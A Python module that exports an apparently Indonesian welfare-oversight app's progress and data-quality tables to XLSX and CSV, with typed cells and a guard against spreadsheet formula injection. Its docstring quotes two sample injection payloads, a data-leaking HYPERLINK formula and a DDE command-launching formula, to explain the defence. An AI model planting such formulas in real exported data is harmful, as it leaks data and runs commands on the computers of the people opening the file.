"""XLSX files of the oversight screens (the progress of every village, the data-quality list)
and the cell writing every workbook and CSV of Kawal shares (the SIKS-NG export included).

Pure and synchronous: callers pass data already read (and ordered) and run these in a worker
thread after the commit (``handlers.kit.deferred``). openpyxl's write-only mode keeps memory flat.
Every value goes through :func:`cell` (XLSX) or :func:`csv_value` (CSV): identifiers stay text
so Excel never turns a NIK into ``1.80419E+15``, numbers are numbers, dates are dates shown
``DD-MM-YYYY``. Every sheet has its header bold and frozen, an auto-filter and column widths
(:func:`begin_sheet`, :func:`end_sheet`).

Every cell Kawal writes into a spreadsheet, XLSX or CSV, passes :func:`neutralise`: the one
guard against formula injection (OWASP "CSV injection"). A name, address or note typed as
``=HYPERLINK("http://x/?d="&D2,"klik")`` or ``+cmd|' /C calc'!A0`` reaches Dinsos' Excel as
text, never as a live formula.
"""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

from handlers.kit.i18n import t
from storage.repos.progress import GroupProgress, ProgressCounts, VillageProgress

__all__ = [
    "begin_sheet",
    "cell",
    "count_cells",
    "csv_value",
    "end_sheet",
    "is_formula_like",
    "neutralise",
    "progress_table",
    "safe_row",
    "write_progress_xlsx",
    "write_sheets",
]

Sheet = tuple[str, Sequence[str], Iterable[Sequence[Any]]]


# What a spreadsheet reads as the start of a formula (also the full-width forms LibreOffice
# accepts), and the tab / carriage return that shift a CSV cell.
_FORMULA_LEAD = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
_CONTROL_LEAD = frozenset("\t\r\n")
# Plain numbers and coordinates ("-5.123456, 104.123456"): a leading minus, but no function,
# reference or operator a formula could use.
_PLAIN_NUMBERS = re.compile(r"-?[0-9]+(?:[.,][0-9]+)?(?:\s*,\s*-?[0-9]+(?:[.,][0-9]+)?)*")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula: it starts with ``= + - @``
    (also after leading blanks), a tab or a line break. Plain (negative) numbers are not."""
    if not text:
        return False
    if text[0] in _CONTROL_LEAD:
        return True
    stripped = text.lstrip()
    if not stripped or stripped[0] not in _FORMULA_LEAD:
        return False
    return not _PLAIN_NUMBERS.fullmatch(stripped)


def neutralise(value: Any, sheet: Any = None) -> Any:
    """The value of one spreadsheet cell, safe from formula injection.

    Without ``sheet`` (CSV): a formula-like string gets a leading ``'``, which Excel and
    LibreOffice show and never evaluate. With a write-only ``sheet`` (XLSX): a formula-like
    string becomes a text cell with Excel's quote prefix (editing it keeps it text). Anything
    else (numbers, dates, ordinary text) is returned unchanged and stays typed."""
    if not isinstance(value, str) or not is_formula_like(value):
        return value
    if sheet is None:
        return "'" + value
    from openpyxl.cell import WriteOnlyCell

    return _as_text(WriteOnlyCell(sheet, value=value))


def _as_text(cell: Any) -> Any:
    """An openpyxl cell shown and kept as text: a string cell with Excel's quote prefix."""
    cell.data_type = "s"  # openpyxl makes "=..." a formula ("f")
    cell.quotePrefix = True
    return cell


def safe_row(row: Iterable[Any], sheet: Any = None) -> list[Any]:
    """:func:`neutralise` over a row (``sheet``: the XLSX sheet it goes to; None for CSV)."""
    return [neutralise(value, sheet) for value in row]


def count_cells(counts: ProgressCounts) -> list[Any]:
    """The numbers of ``progress_xlsx_counts``, in its order."""
    return [
        counts.register,
        counts.verified,
        counts.updated,
        counts.not_found,
        counts.done,
        counts.pending,
        counts.done_pct,
        counts.proposals,
        counts.reports_open,
    ]


def _split(key: str, lang: str) -> list[str]:
    return t(key, lang).split("|")


def progress_table(
    villages: Sequence[VillageProgress], names: dict[str, str], lang: str, *, short: bool = False
) -> tuple[list[str], list[list[Any]]]:
    """Header and one row per village (in the order given): code, kecamatan, name, counts.
    ``short``: headers that fit a terminal."""
    counts = "progress_table_counts" if short else "progress_xlsx_counts"
    header = _split("progress_xlsx_village_columns", lang) + _split(counts, lang)
    rows = [
        [v.code, names.get(".".join(v.code.split(".")[:3]), ""), v.name, *count_cells(v.counts)]
        for v in villages
    ]
    return header, rows


def write_progress_xlsx(
    path: Path,
    villages: Sequence[VillageProgress],
    groups: Sequence[GroupProgress],
    names: dict[str, str],
    lang: str,
) -> Path:
    """Sheet 1: every village, then a total row; sheet 2 (when there are groups): per group."""
    village_sheet, group_sheet = _split("progress_xlsx_sheets", lang)
    header, rows = progress_table(villages, names, lang)
    total = ProgressCounts()
    for village in villages:
        total += village.counts
    rows.append(["", "", t("progress_xlsx_total", lang), *count_cells(total)])
    sheets: list[Sheet] = [(village_sheet, header, rows)]
    if groups:
        group_header = _split("progress_xlsx_group_columns", lang) + _split(
            "progress_xlsx_counts", lang
        )
        group_rows = [[g.code, g.name, g.villages, *count_cells(g.counts)] for g in groups]
        sheets.append((group_sheet, group_header, group_rows))
    return write_sheets(path, sheets)


DATE_FORMAT = "DD-MM-YYYY"  # how Indonesians write a date; Excel sorts and filters it as one
DATETIME_FORMAT = "DD-MM-YYYY HH:MM"
INTEGER_FORMAT = "0"
DECIMAL_FORMAT = "0.0#"
MIN_WIDTH, MAX_WIDTH = 8, 60


def cell(sheet: Any, value: Any) -> Any:
    """The one place a value becomes an XLSX cell (every workbook Kawal writes goes through
    here): text stays a text cell (a NIK is never turned into a number), numbers are number
    cells, a ``date`` a date cell shown ``27-01-2027`` and a ``datetime`` (already in the
    reader's local zone; Excel has no zones, so the zone is dropped, the wall time kept) a date
    and time cell shown ``27-01-2027 16:00``."""
    from openpyxl.cell import WriteOnlyCell

    if value is None or isinstance(value, bool):
        return value
    if isinstance(value, dt.datetime):
        typed = WriteOnlyCell(sheet, value=value.replace(tzinfo=None))
        typed.number_format = DATETIME_FORMAT
    elif isinstance(value, dt.date):
        typed = WriteOnlyCell(sheet, value=value)
        typed.number_format = DATE_FORMAT
    elif isinstance(value, int):
        typed = WriteOnlyCell(sheet, value=value)
        typed.number_format = INTEGER_FORMAT
    elif isinstance(value, float):
        typed = WriteOnlyCell(sheet, value=value)
        typed.number_format = DECIMAL_FORMAT
    else:
        return neutralise(str(value), sheet)
    return typed


def csv_value(value: Any) -> Any:
    """The one place a value becomes a CSV field, as Excel in Indonesian locale reads it back
    (``;``-separated files): dates ``27-01-2027``, times ``27-01-2027 16:00``, decimals with a
    comma (``36,5``)."""
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        return value.strftime("%d-%m-%Y %H:%M")
    if isinstance(value, dt.date):
        return value.strftime("%d-%m-%Y")
    if isinstance(value, float):
        return f"{value:.10f}".rstrip("0").rstrip(".").replace(".", ",")
    return neutralise(value)


def column_width(header: str) -> float:
    """A column as wide as its header (bold, hence the margin), within reason."""
    return float(min(max(len(header) + 3, MIN_WIDTH), MAX_WIDTH))


def begin_sheet(sheet: Any, header: Sequence[str], widths: Sequence[float] = ()) -> None:
    """Column widths (``widths``, else from the header), the header row in bold, frozen.
    A write-only sheet takes these only before its first row."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    sheet.freeze_panes = "A2"
    for index, name in enumerate(header, 1):
        width = widths[index - 1] if index <= len(widths) else column_width(name)
        sheet.column_dimensions[get_column_letter(index)].width = width
    bold = Font(bold=True)
    cells = []
    for name in header:
        typed = WriteOnlyCell(sheet, value=name)
        if isinstance(name, str) and is_formula_like(name):
            _as_text(typed)
        typed.font = bold
        cells.append(typed)
    sheet.append(cells)


def end_sheet(sheet: Any, columns: int, rows: int) -> None:
    """The auto-filter over the header and the ``rows`` rows below it (written at the end)."""
    from openpyxl.utils import get_column_letter

    sheet.auto_filter.ref = f"A1:{get_column_letter(max(columns, 1))}{rows + 1}"


def write_sheets(path: Path, sheets: Sequence[Sheet]) -> Path:
    """One sheet per ``(title, header, rows)``: the header row bold and frozen, an
    auto-filter, columns as wide as their headers; every value through :func:`cell`."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    for title, header, rows in sheets:
        sheet = workbook.create_sheet(title[:31])
        begin_sheet(sheet, header)
        count = 0
        for row in rows:
            sheet.append([cell(sheet, value) for value in row])
            count += 1
        end_sheet(sheet, len(header), count)
    workbook.save(path)
    return path
